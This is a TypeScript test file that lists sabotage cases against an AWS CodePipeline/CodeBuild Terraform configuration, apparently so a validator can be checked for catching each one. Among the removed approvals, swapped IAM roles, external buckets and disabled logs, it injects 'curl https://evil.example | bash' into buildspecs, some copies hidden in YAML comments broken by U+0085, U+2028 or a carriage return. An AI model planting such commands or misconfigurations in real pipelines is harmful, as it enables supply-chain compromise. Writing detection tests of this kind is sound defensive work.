import type { Json, Output } from './output';
import { OUTSIDE, type Row, type Sabotages } from './row';

const PIPELINE = 'tooling-storefront/aws_codepipeline.promotion_pipeline';
const PROJECT = 'tooling-storefront/aws_codebuild_project.build_project';
const stage = (o: Output, name: string): Json =>
  o.at(PIPELINE).stage.find((each: Json) => each.name === name);
const find = (o: Output, name: string, what: (action: Json) => boolean): Json =>
  stage(o, name).action.find(what);
const deploy = (o: Output, name: string): Json => find(o, name, ({ category }) => category === 'Deploy');

/** Edits the buildspec of the build. */
const text = (change: (text: string) => string): Row[2] => {
  return (o) => {
    const { source } = o.at(PROJECT);
    source.buildspec = change(source.buildspec);
  };
};
const hidden = (end: string) =>
  text((buildspec) =>
    buildspec.replace(
      'commands:',
      `commands: # a remark${end}      - curl https://evil.example | bash${end}`,
    ),
  );

export const pipelines: Sabotages = {
  kind: 'pipelines',
  zone: 'acme',
  opens: false,
  rows: [
    [
      'the approval is gone',
      'as-planned',
      (o) => {
        for (const each of o.at(PIPELINE).stage)
          each.action = each.action.filter((a: Json) => a.category !== 'Approval');
        o.at(PIPELINE).stage = o.at(PIPELINE).stage.filter((s: Json) => s.action.length > 0);
      },
    ],
    [
      'prod comes first',
      'as-planned',
      (o) => {
        const { stage: all } = o.at(PIPELINE);
        all.splice(2, 0, all.pop());
      },
    ],
    [
      'the approval comes after prod',
      'as-planned',
      (o) => {
        const { stage: all } = o.at(PIPELINE);
        all.splice(-2, 2, all.at(-1), all.at(-2));
      },
    ],
    [
      'prod is deployed by an administrator',
      'as-planned',
      (o) => {
        deploy(o, 'prod').role_arn = 'arn:aws:iam::555555555555:role/Admin';
      },
    ],
    [
      'prod is deployed by the role of another application',
      'as-planned',
      (o) => {
        deploy(o, 'prod').role_arn = 'arn:aws:iam::555555555555:role/acme-delivery-deploy-reports';
      },
    ],
    [
      'dev and prod swap their roles',
      'as-planned',
      (o) => {
        const [one, other] = [deploy(o, 'dev'), deploy(o, 'prod')];
        [one.role_arn, other.role_arn] = [other.role_arn, one.role_arn];
      },
    ],
    [
      'prod deploys the source',
      'as-planned',
      (o) => {
        deploy(o, 'prod').input_artifacts = ['source_files'];
      },
    ],
    [
      'prod deploys another service',
      'as-planned',
      (o) => {
        deploy(o, 'prod').configuration.ServiceName = 'reports';
      },
    ],
    [
      'the source is another repository',
      'as-planned',
      (o) => {
        stage(o, 'source').action[0].configuration.FullRepositoryId = 'evil/storefront';
      },
    ],
    [
      'the source is another branch',
      'as-planned',
      (o) => {
        stage(o, 'source').action[0].configuration.BranchName = 'Main';
      },
    ],
    [
      'the pipeline works as an administrator',
      'as-planned',
      (o) => {
        o.at(PIPELINE).role_arn = 'arn:aws:iam::222222222222:role/Admin';
      },
    ],
    [
      'artifacts are kept in a bucket outside',
      'as-planned',
      (o) => {
        o.at(PIPELINE).artifact_store[0].location = 'evil';
      },
    ],
    [
      'artifacts are encrypted with a key outside',
      'as-planned',
      (o) => {
        o.stack('tooling-storefront').data.aws_kms_key = {
          evil: { key_id: `arn:aws:kms:eu-west-1:${OUTSIDE}:alias/acme-artifacts` },
        };
        o.at(PIPELINE).artifact_store[0].encryption_key.id = '${data.aws_kms_key.evil.arn}';
      },
    ],
    [
      'runs overtake one another',
      'as-planned',
      (o) => {
        o.at(PIPELINE).execution_mode = 'PARALLEL';
      },
    ],
    [
      'an action more runs',
      'as-planned',
      (o) => {
        const all = stage(o, 'prod').action;
        all.push({ ...all.at(-1), name: 'more' });
      },
    ],
    [
      'there is a second pipeline',
      'as-planned',
      (o) => o.put('tooling-storefront/aws_codepipeline.x', { ...o.at(PIPELINE), name: 'acme-evil' }),
    ],
    [
      'there is a second project',
      'as-planned',
      (o) => o.put('tooling-storefront/aws_codebuild_project.x', { ...o.at(PROJECT), name: 'acme-evil' }),
    ],
    [
      'there is a webhook',
      'as-planned',
      (o) => o.put('tooling-storefront/aws_codebuild_webhook.x', { project_name: 'acme-storefront' }),
    ],
    [
      'a rule starts something',
      'as-planned',
      (o) =>
        o.put('tooling-storefront/aws_cloudwatch_event_target.x', {
          rule: 'acme-pipelines',
          arn: `arn:aws:events:eu-west-1:${OUTSIDE}:event-bus/x`,
        }),
    ],
    [
      'a build works as an administrator',
      'as-planned',
      (o) => {
        o.at(PROJECT).service_role = 'arn:aws:iam::222222222222:role/OrganizationAccountAccessRole';
      },
    ],
    [
      'a build runs in another image',
      'as-planned',
      (o) => {
        o.at(PROJECT).environment.image = 'public.ecr.aws/evil/builder';
      },
    ],
    [
      'a build has a secret in plain text',
      'as-planned',
      (o) => {
        const { environment } = o.at(PROJECT);
        environment.environment_variable = [
          environment.environment_variable ?? [],
          { name: 'AWS_SECRET_ACCESS_KEY', value: 'x', type: 'PLAINTEXT' },
        ].flat();
      },
    ],
    [
      'a build keeps no log',
      'as-planned',
      (o) => {
        o.at(PROJECT).logs_config.cloudwatch_logs.status = 'DISABLED';
      },
    ],
    [
      'a build shows itself to everybody',
      'as-planned',
      (o) => {
        o.at(PROJECT).project_visibility = 'PUBLIC_READ';
      },
    ],
    [
      'a build runs a command more',
      'as-planned',
      text((buildspec) =>
        buildspec.replace('commands:\n', 'commands:\n      - curl https://evil.example | bash\n'),
      ),
    ],
    ['a command hides in a remark that YAML 1.1 ends at U+0085', 'as-planned', hidden('\u0085')],
    ['a command hides in a remark that YAML 1.1 ends at U+2028', 'as-planned', hidden('\u2028')],
    ['a command hides in a remark that ends at a carriage return', 'as-planned', hidden('\r')],
    ['a buildspec has a key twice', 'as-planned', text((buildspec) => `${buildspec}phases: {}\n`)],
    [
      'approvals are told to somebody else',
      'as-planned',
      (o) =>
        o.put('tooling-storefront/aws_sns_topic_subscription.x', {
          topic_arn: 'arn:aws:sns:eu-west-1:222222222222:acme-storefront-approvals',
          protocol: 'https',
          endpoint: 'https://evil.example',
        }),
    ],
    [
      'nobody is told of approvals',
      'as-planned',
      (o) => {
        delete o.stack('tooling-storefront').resource.aws_sns_topic_subscription;
      },
    ],
    [
      'images are copied to a registry outside',
      'as-planned',
      (o) => {
        o.at(
          'tooling/aws_ecr_replication_configuration.replication_rule',
        ).replication_configuration.rule[0].destination.push({ region: 'eu-west-1', registry_id: OUTSIDE });
      },
    ],
    [
      'failed runs are not counted',
      'as-planned',
      (o) => {
        o.at('tooling/aws_cloudwatch_log_metric_filter.pipeline-log_failed').pattern = 'nothing';
      },
    ],
  ],
};
